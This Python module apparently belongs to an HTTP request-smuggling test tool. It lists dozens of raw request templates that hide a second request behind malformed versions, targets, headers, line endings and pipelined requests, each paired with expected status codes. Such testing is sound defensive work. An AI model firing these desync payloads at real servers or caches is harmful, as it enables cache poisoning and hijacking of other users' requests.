"""What hides a request behind a head: odd versions, targets, headers, ends of lines, and several in a row."""

from __future__ import annotations

from .payload import CHUNKED, GET, HOST, LENGTH, POST, PREFACE, Payload

VERSIONS = {
    "HTTP/0.9": Payload((400,), "GET {one}\r\n\r\n{hidden}"),
    "HTTP/0.9 with one line end": Payload((400,), "GET {one}\r\n{hidden}"),
    "HTTP/1.0": Payload((200,), "GET {one} HTTP/1.0\r\n\r\n{hidden}"),
    "HTTP/1.0 that stays": Payload((200,), "GET {one} HTTP/1.0\r\nConnection: keep-alive\r\n\r\n{hidden}"),
    "HTTP/1.0 that stays, with a body": Payload(
        (400,), f"GET {{one}} HTTP/1.0\r\nConnection: keep-alive\r\n{LENGTH}\r\n{{hidden}}"
    ),
    "HTTP/1.2": Payload((505,), f"GET {{one}} HTTP/1.2\r\n{HOST}\r\n{{hidden}}"),
    "HTTP/1.10": Payload((400,), f"GET {{one}} HTTP/1.10\r\n{HOST}\r\n{{hidden}}"),
    "HTTP/01.1": Payload((400,), f"GET {{one}} HTTP/01.1\r\n{HOST}\r\n{{hidden}}"),
    "http/1.1": Payload((400,), f"GET {{one}} http/1.1\r\n{HOST}\r\n{{hidden}}"),
    "HTTP/1.1 and a space": Payload((400,), f"GET {{one}} HTTP/1.1 \r\n{HOST}\r\n{{hidden}}"),
    "HTTP/1.1 twice": Payload((400,), f"GET {{one}} HTTP/1.1 HTTP/1.1\r\n{HOST}\r\n{{hidden}}"),
    "HTTP/2's preface": Payload((505,), PREFACE + "{hidden}"),
    "HTTP/2's preface behind a request": Payload((200, 505), GET + "\r\n" + PREFACE + "{hidden}"),
    "an upgrade to h2c": Payload(
        (200, 505),
        GET + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n" + PREFACE,
    ),
    "an upgrade to h2c, and no HTTP/2": Payload(
        (200, 200), f"{GET}Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n{{hidden}}"
    ),
    "an upgrade to websocket": Payload(
        (200, 200), f"{GET}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n{{hidden}}"
    ),
}

_TARGETS = {
    "absolute": ((400,), "GET http://cache{one} HTTP/1.1"),
    "absolute, of another host": ((400,), "GET http://evil{one} HTTP/1.1"),
    "absolute, with a name and password": ((400,), "GET http://a:b@cache{one} HTTP/1.1"),
    "an authority": ((400,), "GET cache:80 HTTP/1.1"),
    "a star": ((400,), "GET * HTTP/1.1"),
    "a star, asked for options": ((400,), "OPTIONS * HTTP/1.1"),
    "CONNECT to an authority": ((400,), "CONNECT cache:443 HTTP/1.1"),
    "CONNECT to a path": ((405, 200), "CONNECT {one} HTTP/1.1"),
    "no slash": ((400,), "GET v2{one} HTTP/1.1"),
    "two slashes": ((404, 200), "GET /{one} HTTP/1.1"),
    "backslashes": ((400,), "GET \\v2{one} HTTP/1.1"),
    "an encoded slash": ((404, 200), "GET /v2%2fone{one} HTTP/1.1"),
    "a way up": ((400, 200), "GET /v2/..{one} HTTP/1.1"),
    "an encoded way up": ((400, 200), "GET /v2/%2e%2e{one} HTTP/1.1"),
    "an encoded NUL": ((404, 200), "GET /%00{one} HTTP/1.1"),
    "an encoded line end": ((200, 200), "GET {one}&x=%0d%0aContent-Length:%205 HTTP/1.1"),
    "a fragment": ((400,), "GET {one}#x HTTP/1.1"),
    "a fragment before the path": ((400,), "GET #{one} HTTP/1.1"),
    "a space in it": ((400,), "GET {one}&x=a b HTTP/1.1"),
    "a high byte": ((400,), "GET {one}&x=\xff HTTP/1.1"),
    "a NUL": ((400,), "GET {one}\x00 HTTP/1.1"),
    "two spaces before it": ((400,), "GET  {one} HTTP/1.1"),
    "many spaces": ((400,), "GET     {one}     HTTP/1.1"),
    "tabs for spaces": ((400,), "GET\t{one}\tHTTP/1.1"),
    "CR for a space": ((400,), "GET {one}\rHTTP/1.1"),
    "LF for a space": ((400,), "GET {one}\nHTTP/1.1"),
    "a space before the line": ((400,), " GET {one} HTTP/1.1"),
    "an empty line before the line": ((400,), "\r\nGET {one} HTTP/1.1"),
    "a method in small letters": ((400,), "get {one} HTTP/1.1"),
    "a method with a longer name": ((405, 200), "GETX {one} HTTP/1.1"),
    "a method with signs in it": ((400,), "GET;X {one} HTTP/1.1"),
}
TARGETS = {
    f"target: {name}": Payload(answers, f"{line}\r\n{HOST}\r\n{{hidden}}")
    for name, (answers, line) in _TARGETS.items()
}

_HEADERS = {
    "Connection names the length": ((405,), POST, f"Connection: Content-Length\r\n{LENGTH}"),
    "Connection names the coding": ((405,), POST, f"Connection: close, Transfer-Encoding\r\n{CHUNKED}"),
    "Connection names the coding, with both": ((400,), POST, f"Connection: Transfer-Encoding\r\n{LENGTH}{CHUNKED}"),
    "Connection names the host": ((200, 200), GET, "Connection: Host\r\n"),
    "Connection says to stay and to close": ((200,), GET, "Connection: keep-alive, close\r\n"),
    "Expect with a body": ((405,), POST, f"Expect: 100-continue\r\n{LENGTH}"),
    "Expect with a body in chunks": ((405,), POST, f"Expect: 100-continue\r\n{CHUNKED}"),
    "Expect with a body to a GET": ((400,), GET, f"Expect: 100-continue\r\n{LENGTH}"),
    "Expect without a body": ((200, 200), GET, "Expect: 100-continue\r\n"),
    "Expect what nobody knows": ((405,), POST, f"Expect: y 100-continue\r\n{LENGTH}"),
    "Expect, folded": ((400,), POST, f"Expect:\r\n 100-continue\r\n{LENGTH}"),
    "the host again": ((400,), GET, f"{HOST}"),
    "another host": ((400,), GET, "Host: evil\r\n"),
    "another host in small letters, with a space": ((400,), GET, "host : evil\r\n"),
    "a folded header": ((400,), GET, "X: a\r\n b\r\n"),
    "a header folded into nothing": ((400,), GET, "X: a\r\n \r\n"),
    "an empty name": ((400,), GET, ": x\r\n"),
    "only a colon": ((400,), GET, ":\r\n"),
    "no colon": ((400,), GET, "X\r\n"),
    "a space in the name": ((400,), GET, "X Y: z\r\n"),
    "a NUL in the value": ((400,), GET, "X: a\x00b\r\n"),
    "a DEL in the value": ((400,), GET, "X: a\x7fb\r\n"),
    "two LF in a value": ((400,), GET, "X:\n\nGET {two} HTTP/1.1\nHost: cache\n\n\r\n"),
    "another method said in a header": ((405, 200), POST, "X-HTTP-Method-Override: GET\r\n"),
    "another target said in a header": ((200, 200), GET, "X-Original-URL: {two}\r\nX-Rewrite-URL: {two}\r\n"),
}
HEADERS = {
    f"header: {name}": Payload(answers, f"{head}{lines}\r\n{{hidden}}")
    for name, (answers, head, lines) in _HEADERS.items()
}

ENDS_AND_ROWS = {
    "no host": Payload((400,), "GET {one} HTTP/1.1\r\n\r\n{hidden}"),
    "a list of hosts": Payload((400,), "GET {one} HTTP/1.1\r\nHost: cache, evil\r\n\r\n{hidden}"),
    "a host with a path": Payload((400,), "GET {one} HTTP/1.1\r\nHost: cache/evil\r\n\r\n{hidden}"),
    "a host with a name before it": Payload((400,), "GET {one} HTTP/1.1\r\nHost: evil@cache\r\n\r\n{hidden}"),
    "an empty host": Payload((200, 200), "GET {one} HTTP/1.1\r\nHost:\r\n\r\n{hidden}"),
    "lines end by LF": Payload((400,), "GET {one} HTTP/1.1\nHost: cache\n\n{hidden}"),
    "lines end by CR": Payload((400,), "GET {one} HTTP/1.1\rHost: cache\r\r{hidden}"),
    "lines end by CR, and nothing follows": Payload((), "GET {one} HTTP/1.1\rHost: cache\r\r"),
    "the head ends by LF": Payload((400,), GET + "\n{hidden}"),
    "the head ends by CR": Payload((400,), GET + "\r{hidden}"),
    "the head ends by CR CR LF": Payload((400,), "GET {one} HTTP/1.1\r\nHost: cache\r\r\n\r\n{hidden}"),
    "the head does not end": Payload((), GET),
    "two requests": Payload((200, 200), GET + "\r\n{hidden}"),
    "three requests": Payload((200, 200, 200), f"{GET}\r\nHEAD {{one}} HTTP/1.1\r\n{HOST}\r\n{{hidden}}"),
    "a HEAD and a request": Payload((200, 200), f"HEAD {{one}} HTTP/1.1\r\n{HOST}\r\n{{hidden}}"),
    "an empty line between two requests": Payload((200, 400), GET + "\r\n\r\n{hidden}"),
    "a request, and half of one": Payload((200,), GET + "\r\nGET {two} HTTP/1.1\r\nX: "),
    "a request that closes, and another": Payload((200,), GET + "Connection: close\r\n\r\n{hidden}"),
    "a request, and one with a body": Payload((200, 405), GET + "\r\n" + POST + "Content-Length: 9\r\n\r\n{hidden}"),
}
